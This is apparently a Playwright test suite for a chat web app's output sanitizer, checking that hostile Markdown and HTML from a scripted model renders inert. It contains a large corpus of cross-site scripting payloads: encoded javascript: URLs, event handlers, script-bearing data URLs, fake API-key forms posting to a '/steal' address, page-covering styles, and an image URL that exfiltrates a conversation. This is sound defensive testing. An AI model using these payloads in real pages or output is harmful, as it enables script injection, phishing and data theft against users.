"""Model output on the chat page is an answer in a box, never part of the page.

A corpus of hostile Markdown and HTML, built from parts, goes through the real server
(a scripted OpenAI model) into the real page in Chromium, streamed in pieces so that
half-written tags are drawn too. It must come out inert: no code runs, nothing
restyles, covers or re-bases the page, no form, frame or embed appears, every link
left is http(s) or mailto and opens a new tab without opener or referrer, and nothing
is fetched until the reader clicks an image's placeholder, which fetches that image.

NETWORK RULE: every URL here is a loopback address (no name for Chromium to look up),
and the browser context aborts every request that is not to the Sluice server itself,
so no packet leaves this machine even if the sanitizer were broken.
"""
from __future__ import annotations

import base64
import re
import textwrap
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, Request, Route, expect

from .browser import answer, ask, wait_until_done
from .fake_upstream import openai_text_reply

# The page does not depend on the storage backend: one is enough here.
pytestmark = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)

ELSEWHERE = "http://127.0.0.2:9"  # loopback, nothing listens there, and never reached
IMG = ELSEWHERE + "/img"
PWN = "window.__pwned=1"
RESTYLE = ("body{background:rgb(255,0,0)!important} .composer{display:none!important} "
           ".sidebar{visibility:hidden!important} #prompt{height:1px!important} "
           "*{font-family:monospace!important;color:rgb(0,255,0)!important}")
GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
                       "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
CSP = ("default-src 'self'; script-src 'self'; style-src 'self'; "
       "img-src 'self' data: https: http:; connect-src 'self'; font-src 'self'; "
       "object-src 'none'; frame-src 'none'; base-uri 'none'; form-action 'self'; "
       "frame-ancestors 'none'")

# `javascript:` (and friends) in every disguise, as the model would write it in HTML.
SCRIPT_URLS = [
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}",
    f"&#106;avascript:{PWN}",
    f"&#x6A;avascript:{PWN}",
    f"&#X6a;AVASCRIPT:{PWN}",
    f"&#0000106;avascript:{PWN}",
    f"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{PWN}",
    f"javascript&colon;{PWN}",
    f"javascript&#58;{PWN}",
    f"java\tscript:{PWN}",
    f"java\nscript:{PWN}",
    f"java&#x09;script:{PWN}",
    f"java&#10;script:{PWN}",
    f"java&Tab;script:{PWN}",
    f"java&NewLine;script:{PWN}",
    f"   javascript:{PWN}",
    f"\x01\x0f javascript:{PWN}",
    f"&#x01;javascript:{PWN}",
    f"javascript://%0A{PWN}",
    "data:text/html,<script>opener.__pwned=1</script>",
    "data:text/html;base64," + base64.b64encode(b"<script>opener.__pwned=1</script>").decode(),
    "vbscript:msgbox(1)",
    f"VBScript:{PWN}",
]


def restyling():
    yield f"<style>{RESTYLE}</style>"
    yield f"<style>@import url({ELSEWHERE}/import.css);</style>"
    yield f'<link rel="stylesheet" href="{ELSEWHERE}/sheet.css">'
    yield '<div style="position:fixed;inset:0;z-index:999;background:rgb(255,0,0)">a cover</div>'
    yield f'<p style="background-image:url({IMG}/style-background.png)">styled</p>'
    yield f"<svg><style>{RESTYLE}</style></svg>"
    yield f"<math><mtext><table><mglyph><style>{RESTYLE}</style></mglyph></table></mtext></math>"
    yield f"<noscript><style>{RESTYLE}</style></noscript>"
    yield f"<template><style>{RESTYLE}</style></template>"
    yield '<div class="app sidebar-open"><div class="sidebar">a fake sidebar</div></div>'
    yield '<p class="composer notice visually-hidden">borrowed page classes</p>'
    yield "<dialog open>a dialog over the page</dialog>"


def controls_and_frames():
    yield (f'<form action="{ELSEWHERE}/steal" method="post"><label>paste your API key '
           '<input name="api_key" type="password"></label><button type="submit">Save</button></form>')
    yield (f'<form action="{ELSEWHERE}/steal"><input placeholder="paste your API key" '
           f'autofocus onfocus="{PWN}"></form>')
    yield f'<input form="composer" formaction="{ELSEWHERE}/steal" type="submit" value="Send">'
    yield f'<button form="composer" formaction="{ELSEWHERE}/steal">Send it</button>'
    yield '<textarea name="key">paste your API key</textarea>'
    yield '<select name="provider"><option>OpenAI</option></select>'
    yield '<fieldset><legend>Sign in</legend><input type="password"></fieldset>'
    yield f'<isindex action="{ELSEWHERE}/steal">'
    yield f'<iframe src="{ELSEWHERE}/frame"></iframe>'
    yield '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>'
    yield f'<frameset><frame src="{ELSEWHERE}/frame"></frameset>'
    yield f'<object data="{ELSEWHERE}/object"></object>'
    yield f'<embed src="{ELSEWHERE}/embed">'
    yield f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/refresh">'
    yield f'<base href="{ELSEWHERE}/">'
    yield f'<portal src="{ELSEWHERE}/portal"></portal>'


def handlers():
    yield f'<img src=x onerror="{PWN}">'
    yield f'<details open ontoggle="{PWN}"><summary>toggle</summary>inside</details>'
    yield f'<svg onload="{PWN}"></svg>'
    yield f'<body onload="{PWN}">'
    yield f'<video><source onerror="{PWN}"></video>'
    yield f'<p onmouseover="{PWN}" onclick="{PWN}">hover or click me</p>'
    yield f'<marquee onstart="{PWN}">marquee</marquee>'
    yield f"<script>{PWN}</script>"


def images(pixel: str):
    """(kind, part): "md" parts are Markdown; the others are raw HTML."""
    yield "md", f"![markdown]({IMG}/markdown.png)"
    yield "md", f'![titled]({IMG}/titled.png "a title")'
    yield "md", f"![exfiltrate]({IMG}/exfil.png?q=the%20whole%20conversation)"
    yield "md", f"![by reference][picture]\n\n[picture]: {IMG}/reference.png"
    yield "md", f'Text with <img src="{IMG}/inline.png" alt="inline"> inside.'
    yield "md", f"![the pixel]({pixel})"
    yield "html", f'<img src="{IMG}/html.png" alt="html">'
    yield "html", f'<img src=" {IMG}/leading-space.png">'
    yield "html", f'<img src="{IMG}/lazy.png" loading="lazy" width="1" height="1">'
    yield "html", f'<image src="{IMG}/image-tag.png">'
    yield "html", f'<img srcset="{IMG}/srcset.png 1x">'
    yield "html", f'<img alt="inline dot" src="{GIF}" srcset="{IMG}/srcset-2x.png 2x">'
    yield "html", '<img src="//127.0.0.2:9/img/protocol-relative.png">'
    yield "html", (f'<picture><source srcset="{IMG}/picture.webp">'
                   f'<img src="{IMG}/picture.png" alt="picture"></picture>')
    yield "html", f'<video poster="{IMG}/poster.png" src="{IMG}/video.mp4"></video>'
    yield "html", f'<video><source src="{IMG}/source.mp4"><track src="{IMG}/track.vtt"></video>'
    yield "html", f'<audio src="{IMG}/audio.mp3" autoplay></audio>'
    yield "html", (f'<table background="{IMG}/table.png"><tr>'
                   f'<td background="{IMG}/td.png">cell</td></tr></table>')
    yield "html", f'<body background="{IMG}/body.png">'
    yield "html", f'<input type="image" src="{IMG}/input.png">'
    yield "html", f'<svg><image href="{IMG}/svg-image.png"/></svg>'
    yield "html", f'<link rel="preload" as="image" href="{IMG}/preload.png">'
    yield "html", f'<link rel="prefetch" href="{IMG}/prefetch.png">'
    yield "html", f'<div style="background:url({IMG}/div-background.png)">background</div>'
    yield "html", f'<a ping="{IMG}/ping" href="{ELSEWHERE}/pinged">a pinging link</a>'


# What the page should offer behind a click: Markdown images and <img src> that are http(s).
PLACEHOLDER_URLS = {f"{IMG}/{name}" for name in (
    "markdown.png", "titled.png", "exfil.png?q=the%20whole%20conversation", "reference.png",
    "inline.png", "html.png", "leading-space.png", "lazy.png", "image-tag.png", "picture.png")}


def links():
    for n, url in enumerate(SCRIPT_URLS):
        yield "html", f'<a href="{url}">evil {n} html</a>'
        yield "html", f"<a href='{url}' title=\"single-quoted\">evil {n} quoted</a>"
        if not re.search(r"[\s\x00-\x1f]", url):  # Markdown link syntax allows no spaces
            yield "md", f"[evil {n} markdown]({url})"
            yield "md", f"[evil {n} reference][r{n}]\n\n[r{n}]: {url}"
        if re.fullmatch(r"[A-Za-z][\w+.-]*:[^\s<>&\x00-\x1f]*", url):
            yield "md", f"Autolink: <{url}>"
    yield "html", f'<a href="javascript:{PWN}" onclick="{PWN}">evil onclick</a>'
    yield "html", f'<a href="#" onclick="{PWN}">evil hash</a>'
    yield "html", '<a href="/api/v1/threads">evil relative</a>'
    yield "html", (f'<svg width="200" height="20"><a xlink:href="javascript:{PWN}">'
                   '<text x="0" y="15">evil svg link</text></a></svg>')
    yield "html", (f'<math><maction actiontype="statusline" xlink:href="javascript:{PWN}">'
                   'evil math link</maction></math>')
    yield "html", (f'<map name="m"><area shape="rect" coords="0,0,500,500" href="javascript:{PWN}">'
                   f'</map><img usemap="#m" src="{GIF}" alt="mapped">')
    yield "html", f'<form action="javascript:{PWN}"><input type="submit" value="evil submit"></form>'
    yield "html", f'<base href="javascript:{PWN}//">'
    # Links that stay links, with our target and rel whatever they asked for.
    yield "md", f"[a fine link]({ELSEWHERE}/fine)"
    yield "md", f"Autolink: <https://127.0.0.2:9/auto>"
    yield "md", "[write to us](mailto:someone@127.0.0.1)"
    yield "html", f'<a href="HTTP://127.0.0.2:9/upper" target="_self" rel="opener">a plain link</a>'


def corpus(pixel: str) -> tuple[str, int]:
    """The whole hostile answer, and how many parts it has. Each HTML part is an HTML
    block of its own; after each part a marker paragraph proves that no part swallowed
    the ones after it."""
    parts = [("html", part) for part in (*restyling(), *controls_and_frames(), *handlers())]
    parts += [*images(pixel), *links()]
    blocks = []
    for n, (kind, part) in enumerate(parts):
        blocks.append(part if kind == "md" else f"<div>{part}</div>")
        blocks.append(f"part {n} ends here")
    return "\n\n".join(blocks), len(parts)


class Network:
    """Every request a browser context makes. Any request not to Sluice's own origin is
    recorded and aborted, or answered here from `served`: it never reaches a socket.
    With `bare`, the page itself comes without the server's CSP and Referrer-Policy,
    so what a test sees is the sanitizer's doing alone (those headers are a second
    line of defence, not the first)."""

    def __init__(self, context: BrowserContext, origin: str, bare: bool = False) -> None:
        self.origin = origin
        self.bare = bare
        self.outside: list[str] = []
        self.requests: list[Request] = []
        self.served: dict[str, bytes] = {}
        context.route("**/*", self._route)
        context.on("request", lambda request: self.requests.append(request))

    def _route(self, route: Route) -> None:
        url = route.request.url
        if origin_of(url) == self.origin:
            if self.bare and route.request.resource_type == "document":
                response = route.fetch()
                headers = {name: value for name, value in response.headers.items()
                           if name.lower() not in BROWSER_DEFENCES}
                route.fulfill(response=response, headers=headers)
            else:
                route.continue_()
            return
        self.outside.append(url)
        if url in self.served:
            route.fulfill(status=200, content_type="image/png", body=self.served[url])
        else:
            route.abort("blockedbyclient")

    def elsewhere(self) -> list[str]:
        return [r.url for r in self.requests if origin_of(r.url) != self.origin]


BROWSER_DEFENCES = {"content-security-policy", "content-security-policy-report-only",
                    "referrer-policy"}


def origin_of(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


# The page around the answer, as the browser computes it: it must not change.
PAGE_PARTS = ["html", "body", "#app", "#sidebar", ".sidebar-head", ".brand", "#new-thread",
              ".chat", ".chat-head", "#thread-title", "#model-picker", "#streaming-toggle",
              "#messages", "#composer", "#prompt", "#send"]
SNAPSHOT = """(parts) => {
  document.activeElement?.blur();
  const styles = {};
  for (const selector of parts) {
    const style = getComputedStyle(document.querySelector(selector));
    styles[selector] = Object.fromEntries(Array.from(style, (name) => [name, style.getPropertyValue(name)]));
  }
  const uncovered = ["#prompt", "#send", "#sidebar", "#thread-title", "#model-picker"].filter((sel) => {
    const box = document.querySelector(sel).getBoundingClientRect();
    return document.querySelector(sel).contains(
      document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2));
  });
  const count = (selector) => document.querySelectorAll(selector).length;
  return {styles, uncovered, url: location.href, baseURI: document.baseURI,
          title: document.title, styleSheets: document.styleSheets.length,
          forms: document.forms.length,
          elements: count("style, link, meta, base, iframe, frame, frameset, object, embed, "
                          + "form, input, button:not(.remote-image), textarea, select, svg, "
                          + "math, video, audio, dialog")};
}"""

# Nothing but these is allowed in an answer's body after sanitizing.
INERT = """(body) => {
  const banned = "style, link, meta, base, title, form, input, button:not(.remote-image), "
    + "textarea, select, option, label, fieldset, iframe, frame, frameset, object, embed, "
    + "portal, svg, math, audio, video, source, track, picture, script, noscript, template, "
    + "dialog, area, map, image, marquee, isindex";
  const attributes = ["href", "target", "rel", "title", "alt", "align", "colspan", "rowspan",
                      "start", "open", "class", "type", "data-src", "data-alt", "aria-label", "src"];
  const problems = Array.from(body.querySelectorAll(banned), (el) => el.outerHTML);
  for (const el of body.querySelectorAll("*")) {
    for (const { name, value } of el.attributes) {
      const ok = attributes.includes(name)
        && (name !== "src" || (el.localName === "img" && value.startsWith("data:image/")))
        && (name !== "class" || /^(remote-image|host|language-[\\w-]+)$/.test(value));
      if (!ok) problems.push(`${el.localName} ${name}="${value}"`);
    }
  }
  for (const a of body.querySelectorAll("[href]")) {
    let scheme = null;
    try { scheme = new URL(a.getAttribute("href")).protocol; } catch {}
    const rel = (a.getAttribute("rel") || "").split(/\\s+/);
    if (a.localName !== "a" || !["http:", "https:", "mailto:"].includes(scheme)
        || !rel.includes("noopener") || !rel.includes("noreferrer")
        || a.getAttribute("target") !== "_blank") {
      problems.push(`link ${a.outerHTML}`);
    }
  }
  return problems;
}"""


def open_thread_with(page: Page, page_server, fake_openai, model: str, text: str, **reply) -> str:
    fake_openai.script(model, openai_text_reply(text, **reply))
    thread_id = page_server.new_thread(model=f"openai/{model}")
    page.goto("about:blank")
    page.goto(f"/#{thread_id}")  # a fresh load of the page, through the routes
    expect(page.locator("#model-picker")).to_have_value(f"openai/{model}")
    return thread_id


def test_hostile_output_renders_inert_and_fetches_nothing_until_asked(page, page_server,
                                                                      fake_openai):
    network = Network(page.context, page_server.url, bare=True)
    popups, dialogs = [], []
    page.context.on("page", lambda popup: popups.append(popup.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    pixel = fake_openai.url + "/pixel.png"  # loopback, another origin; the route answers it
    text, parts = corpus(pixel)
    open_thread_with(page, page_server, fake_openai, "hostile-corpus", text,
                     deltas=40, delay=0.03)
    before = page.evaluate(SNAPSHOT, PAGE_PARTS)

    ask(page, "Say everything nasty you know")
    # Done by the page's state, not by what is visible: restyling could hide the button.
    expect(answer(page)).not_to_have_class("message assistant streaming", timeout=20_000)
    expect(page.locator("#stop")).to_have_attribute("hidden", "")
    page.wait_for_timeout(500)  # time for a refresh, a lazy load or a late handler
    body = answer(page).locator(".body")
    shown = body.text_content()
    missing = [n for n in range(parts) if f"part {n} ends here" not in shown]
    assert not missing, f"parts swallowed: {missing}"
    assert "evil 0 html" in shown and "a fake sidebar" in shown  # text stays, as text

    # Inert: nothing but plain elements, no page element covered or restyled.
    assert body.evaluate(INERT) == []
    after = page.evaluate(SNAPSHOT, PAGE_PARTS)
    for selector in PAGE_PARTS:
        changed = {name: (value, after["styles"][selector][name])
                   for name, value in before["styles"][selector].items()
                   if after["styles"][selector][name] != value}
        assert not changed, f"{selector} restyled: {changed}"
    assert {k: v for k, v in after.items() if k != "styles"} == \
        {k: v for k, v in before.items() if k != "styles"}
    assert page.evaluate("window.__pwned") is None

    # Nothing fetched from anywhere but Sluice, not even while half-written tags streamed.
    assert network.outside == [] and network.elsewhere() == []

    # Images wait behind placeholders that name their host; data: images are shown.
    placeholders = body.locator("button.remote-image")
    assert set(placeholders.evaluate_all("all => all.map(b => b.dataset.src)")) == \
        PLACEHOLDER_URLS | {pixel}
    expect(body.locator("img")).to_have_count(2)  # the inline data: dots
    assert body.locator("img").evaluate_all("all => all.map(i => i.src)") == [GIF, GIF]

    # The disarmed links are text: clicking any of them runs nothing and opens nothing.
    disarmed = body.locator("a:not([href])")
    assert disarmed.count() >= 2 * len(SCRIPT_URLS)
    for index in range(disarmed.count()):
        disarmed.nth(index).click()
    body.get_by_text("hover or click me").click()
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert popups == [] and dialogs == [] and page.url == before["url"]
    assert network.outside == [] and network.elsewhere() == []
    expect(body.locator("a[href]")).to_have_count(5)
    expect(body.locator('a[href="http://127.0.0.2:9/upper"]')).to_have_attribute("target", "_blank")

    # A click on one placeholder fetches that image and no other, without a Referer.
    network.served[pixel] = PNG
    button = body.locator(f'button.remote-image[data-src="{pixel}"]')
    expect(button).to_have_text(f"Load image from {urlsplit(pixel).netloc}")
    with page.expect_request(pixel) as asked:
        button.click()
    image = body.locator(f'img[src="{pixel}"]')
    expect(image).to_have_attribute("referrerpolicy", "no-referrer")
    expect(image).to_have_attribute("alt", "the pixel")
    page.wait_for_function("img => img.complete && img.naturalWidth === 1",
                           arg=image.element_handle())
    assert asked.value.header_value("referer") is None
    page.wait_for_timeout(300)
    assert network.outside == [pixel] and network.elsewhere() == [pixel]
    expect(placeholders).to_have_count(len(PLACEHOLDER_URLS))


def test_ordinary_markdown_still_renders_normally(page, page_server, fake_openai):
    network = Network(page.context, page_server.url, bare=True)
    text = textwrap.dedent(f"""\
        # A plan

        Some **bold**, *emphasis*, `inline code` and [the docs]({ELSEWHERE}/docs).

        1. first
        2. second

        - [x] done
        - [ ] to do

        > quoted

        ```python
        print("hi")
        ```

        | name | value |
        | :--- | ---: |
        | a | 1 |

        ![a diagram]({IMG}/diagram.png)

        [![a badge]({IMG}/badge.png)]({ELSEWHERE}/project)
        """)
    open_thread_with(page, page_server, fake_openai, "plain-markdown", text, deltas=8,
                     delay=0.02)
    ask(page, "Show me some Markdown")
    wait_until_done(page)
    body = answer(page).locator(".body")
    expect(body.locator("h1")).to_have_text("A plan")
    expect(body.locator("strong")).to_have_text("bold")
    expect(body.locator("em")).to_have_text("emphasis")
    expect(body.locator("p > code")).to_have_text("inline code")
    link = body.locator("a").first
    expect(link).to_have_text("the docs")
    expect(link).to_have_attribute("href", f"{ELSEWHERE}/docs")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(body.locator("ol > li")).to_have_text(["first", "second"])
    expect(body.locator("ul > li")).to_have_text(["☑ done", "☐ to do"])
    expect(body.locator("blockquote")).to_have_text("quoted")
    expect(body.locator("pre > code.language-python")).to_have_text('print("hi")')
    expect(body.locator("th")).to_have_text(["name", "value"])
    expect(body.locator("td").last).to_have_attribute("align", "right")
    placeholder = body.locator("button.remote-image").first
    expect(placeholder).to_have_text("Load image from 127.0.0.2:9")
    expect(placeholder).to_have_attribute("aria-label", "Load image “a diagram” from 127.0.0.2:9")
    box = placeholder.bounding_box()
    assert box and box["height"] < 32, box  # a small, quiet button, not a broken image
    assert network.outside == []

    # A linked image (a badge): the click loads the image and does not follow the link.
    popups = []
    page.context.on("page", lambda popup: popups.append(popup.url))
    badge = f"{IMG}/badge.png"
    network.served[badge] = PNG
    body.locator(f'a[href="{ELSEWHERE}/project"] button.remote-image').click()
    expect(body.locator(f'a[href="{ELSEWHERE}/project"] img[src="{badge}"]')).to_have_count(1)
    page.wait_for_timeout(300)
    assert popups == [] and network.outside == [badge]


def test_the_page_works_under_its_content_security_policy(page, page_server, fake_openai):
    network = Network(page.context, page_server.url)
    page.add_init_script("window.__violations = [];"
                         "document.addEventListener('securitypolicyviolation', (e) =>"
                         " window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));")
    pixel = fake_openai.url + "/csp-pixel.png"
    # No style attribute here: DOMPurify's inert parse of one would itself be reported
    # (harmlessly: it is refused, then removed). This test is about the page's own code.
    text = f"**Bold**, a table\n\n| a | b |\n| :- | -: |\n| 1 | 2 |\n\nand ![dot]({pixel})"
    fake_openai.script("csp-page", openai_text_reply(text))
    thread_id = page_server.new_thread(model="openai/csp-page")
    page.goto("about:blank")
    loaded = page.goto(f"/#{thread_id}")  # a real load, with the server's own header
    assert loaded.headers["content-security-policy"] == CSP
    expect(page.locator("#model-picker")).to_have_value("openai/csp-page")
    ask(page, "Under CSP")
    wait_until_done(page)
    body = answer(page).locator(".body")
    expect(body.locator("strong")).to_have_text("Bold")
    network.served[pixel] = PNG
    body.locator("button.remote-image").click()
    page.wait_for_function("img => img.complete && img.naturalWidth === 1",
                           arg=body.locator("img").element_handle())
    assert page.evaluate("window.__violations") == []
    assert network.outside == [pixel]
